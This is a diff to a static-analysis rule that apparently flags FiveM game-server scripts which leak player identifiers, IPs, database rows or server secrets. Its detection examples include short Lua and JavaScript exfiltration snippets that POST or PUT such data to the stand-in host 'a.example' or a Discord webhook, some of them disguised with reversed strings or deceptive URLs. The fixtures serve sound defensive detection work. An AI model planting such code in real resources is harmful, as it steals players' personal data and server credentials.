@@ -28,6 +28,7 @@ export const sendsData = defineRule({
   on: [
     'http',
     'sends-more',
+    'answers',
     'sets-property',
     'sets-attribute',
     'sends-event',
@@ -60,8 +61,20 @@ export const sendsData = defineRule({
       // Pages cannot read files: libraries for both have such lines.
       return (isLocal || file.side === 'page' ? low : medium)('any file that is named from outside')
     }
-    if (kind === 'shares' || kind === 'sends-event') {
-      if (kind === 'sends-event' && event.detail !== 'clients') return undefined
+    if (kind === 'sends-more' && object && has(object, origin.web) && !event.isChecked) {
+      const isOfPlayers = values.some((value) => (originsWithin(value) & isPrivate) !== 0 || holdsRows(value))
+      return isOfPlayers ? medium('to everyone who asks by the web') : undefined
+    }
+    if (kind === 'sends-event' && event.detail !== 'clients') return undefined
+    if (kind === 'answers' || kind === 'sends-event') {
+      const isOfOthers = values.some((value) => (originsWithin(value, 4) & origin.anyone) !== 0)
+      const isOpen =
+        event.detail === 'returns'
+          ? !values.some((value) => has(value, origin.check))
+          : program.openTriggers(event).length > 0
+      if (isOfOthers && isOpen) return medium('identifiers or IPs of all players, to a player who asks')
+    }
+    if (kind === 'shares' || kind === 'sends-event' || kind === 'answers') {
       const isSecret = values.some((value) => (originsWithin(value, 4) & origin.secret) !== 0)
       if (!isSecret || file.side === 'client') return undefined
       return (event.isChecked ? low : medium)('a secret of the server, to players')
@@ -101,10 +114,31 @@ export const sendsData = defineRule({
   },
   examples: {
     found: [
+      lua(`ESX.RegisterServerCallback('players', function(source, cb)
+  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do
+^   cb({ name = xPlayer.getName(), ip = GetPlayerEndpoint(xPlayer.source) })
+  end
+end)`),
+      lua(`^lib.callback.register('players', function()
+  local list = {}
+  for _, id in ipairs(GetPlayers()) do list[#list + 1] = GetPlayerIdentifiers(id) end
+  return list
+end)`),
+      js(`const routes = { '/top': () => exports.oxmysql.query_async('SELECT * FROM users') }
+SetHttpHandler(async (req, res) => {
+^ res.send(JSON.stringify(await routes[req.path]()))
+})`),
+      lua(`local function copy(resource)
+  local file = GetResourceMetadata(resource, 'server_script', 0)
+^ PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(resource, file))
+end`),
+      js(
+        `const { value } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
+^navigator.sendBeacon('https://a.example', value.get.call(field))`,
+        'page',
+      ),
       lua(`local ids = GetPlayerIdentifiers(source)
 ^PerformHttpRequest('https://a.example', print, 'POST', table.concat(ids))`),
-      lua(`local ids = GetPlayerIdentifiers(source)
-^PerformHttpRequest('https://a.example?ids=' .. table.concat(ids), print)`),
       lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
 ^ PerformHttpRequest('https://a.example', print, 'POST', json.encode({ all = rows }))
 end)`),
@@ -154,9 +188,6 @@ TriggerEvent('log', GetPlayerEndpoint(source))`),
 })`,
         'page',
       ),
-      lua(`for rows in (function() return MySQL.query.await('SELECT * FROM users') end) do
-^ PerformHttpRequest('https://a.example', print, 'PUT', json.encode(rows))
-end`),
       lua(`lib.callback.register('read', function(source, owner, path)
 ^ return LoadResourceFile(owner, path)
 end)`),
@@ -172,11 +203,12 @@ end)`,
       ),
       js(`const request = require('https').request({ host: 'discord.com', path: '/api/webhooks/1/a' })
 ^request.end(require('fs').readFileSync(name))`),
+      js(`exports.oxmysql.query('SELECT * FROM users', [], (rows) => {
+^ fetch('https://a.example', { method: 'PUT', body: require('zlib').gzipSync(JSON.stringify(rows)) })
+})`),
       lua(`^GlobalState.theme = { accent = GetConvar('sv_licenseKey', '') }`),
       lua(`local ids = GetPlayerIdentifiers(source)
 ^PerformHttpRequest('https://raw.githubusercontent.com@a.example', print, 'POST', table.concat(ids))`),
-      lua(`local ids = GetPlayerIdentifiers(source)
-^PerformHttpRequest('https://ip-api.com:x@a.example', print, 'POST', table.concat(ids))`),
       lua(`local name = ('yeKesnecil_vs'):reverse()
 ^TriggerClientEvent('theme', -1, GetConvar(name, ''))`),
       lua(`local Proxy = module('vrp', 'lib/Proxy')
@@ -191,6 +223,23 @@ RegisterConsoleListener((channel, message) => lines.push(message))
 ^setInterval(() => fetch('https://a.example', { method: 'POST', body: JSON.stringify(lines) }), 5000)`),
     ],
     notFound: [
+      lua(`ESX.RegisterServerCallback('players', function(source, cb)
+  if ESX.GetPlayerFromId(source).getGroup() ~= 'admin' then return end
+  for _, xPlayer in pairs(ESX.GetExtendedPlayers()) do cb(GetPlayerEndpoint(xPlayer.source)) end
+end)`),
+      lua(`lib.callback.register('me', function(source)
+  return GetPlayerIdentifiers(source)
+end)`),
+      js(`SetHttpHandler(async ({ key }, res) => {
+  if (key === config.key) res.send(JSON.stringify(await exports.oxmysql.query_async('SELECT * FROM users')))
+})`),
+      lua(`local file = GetResourceMetadata(GetCurrentResourceName(), 'readme', 0)
+PerformHttpRequest('https://a.example', print, 'PUT', LoadResourceFile(GetCurrentResourceName(), file))`),
+      js(
+        `const { id } = Object.getOwnPropertyDescriptors(HTMLInputElement.prototype)
+navigator.sendBeacon('https://a.example', id.get.call(field))`,
+        'page',
+      ),
       js(`const pool = require('driver').createPool({ uri: GetConvar('mysql_connection_string', '') })
 pool.query('SELECT 1', (rows) => emitNet('rows', -1, rows))`),
       lua(`local ids = GetPlayerIdentifiers(source)
@@ -206,14 +255,8 @@ end)`),
       lua(`MySQL.query('SELECT * FROM users', {}, function(rows)
   PerformHttpRequest('https://a.example', print, 'POST', json.encode({ count = rows[1].count }))
 end)`),
-      js(`const fs = require('fs')
-fetch('https://a.example', { method: 'POST', body: fs.readFileSync('names.json') })`),
+      js(`fetch('https://a.example', { method: 'POST', body: require('fs').readFileSync('names.json') })`),
       js(`fetch('https://garage/save', { method: 'POST', body: localStorage.getItem('theme') })`, 'page'),
-      js(
-        `const image = new Image()
-image.src = 'https://a.example/' + name + '.gif'`,
-        'page',
-      ),
       js(
         `addEventListener('keydown', (event) => {
   fetch('https://garage/close', { method: 'POST', body: event.key })
@@ -228,14 +271,6 @@ end)`),
 fetch('https://a.example', { body: name })`,
         'page',
       ),
-      js(
-        `document.onkeypress = (event) => show(event.key)
-new Image().src = 'https://a.example/?' + theme`,
-        'page',
-      ),
-      lua(`local queue = {}
-queue[#queue + 1] = { name = 'a', ids = 3 }
-PerformHttpRequest('https://a.example', print, 'POST', json.encode(queue))`),
       lua(`AddEventHandler('log', function(text)
   PerformHttpRequest('https://a.example', print, 'POST', text)
 end)
@@ -246,9 +281,6 @@ TriggerEvent('log', 'started')`),
 })`,
         'page',
       ),
-      lua(`for _, name in ipairs({ 'a' }) do
-  PerformHttpRequest('https://a.example', print, 'PUT', name)
-end`),
       lua(`lib.callback.register('read', function(source, name)
   return LoadResourceFile(GetCurrentResourceName(), 'docs/laws.md')
 end)`),
@@ -258,12 +290,10 @@ end)`),
       lua(`exports['screenshot-basic']:requestScreenshotUpload(Config.Webhook, 'files', print)`, 'client'),
       js(`const request = require('https').request({ host: 'discord.com', path: '/api/users' })
 request.end(require('fs').readFileSync(name))`),
-      lua(`GlobalState.theme = { accent = GetConvar('theme_accent', '') }`),
       lua(`TriggerClientEvent('theme', -1, GetConvar('theme_accent', ''))`),
       lua(`local Proxy = module('vrp', 'lib/Proxy')
 local vRP = Proxy.getInterface('vRP')
 PerformHttpRequest('https://a.example', function() print(vRP.query('all/users')) end)`),
-      js(`fetch('https://garage/save', { method: 'POST', body: canvas.toDataURL() })`, 'page'),
       js(`const lines = []
 RegisterConsoleListener((channel, message) => lines.push(message))
 setInterval(() => fetch('https://a.example', { method: 'POST', body: 'alive' }), 5000)`),
